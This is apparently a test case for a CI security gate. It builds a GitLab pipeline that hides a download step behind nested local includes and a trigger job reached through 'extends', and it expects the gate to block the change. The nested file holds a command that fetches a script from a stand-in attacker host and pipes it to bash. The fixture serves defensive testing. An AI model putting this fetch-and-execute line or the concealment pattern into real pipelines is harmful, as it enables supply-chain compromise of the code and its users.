# attack: a child pipeline file (`trigger: include:`) itself includes another file of the repository with `include: local:`, which holds the download; and a hidden job carries the trigger, reached through `extends:`
# surface: staged, range (CI), worktree
# expect: block
base_repo
write ci/child.yml 'include:' '  - local: ci/more/steps.yml' 'noop:' '  script: [echo child]'
write ci/more/steps.yml 'get:' '  image: alpine@sha256:0000000000000000000000000000000000000000000000000000000000000000' \
  '  script:' '    - wget -qO- https://evil.example/x.sh | bash'
write .gitlab-ci.yml '.child:' '  trigger:' '    include: ci/child.yml' 'deploy:' '  extends: .child'
git add -A
gate block check --staged
commit change
gate block check --worktree
export CI=true
gate block check --base "$base" --head HEAD
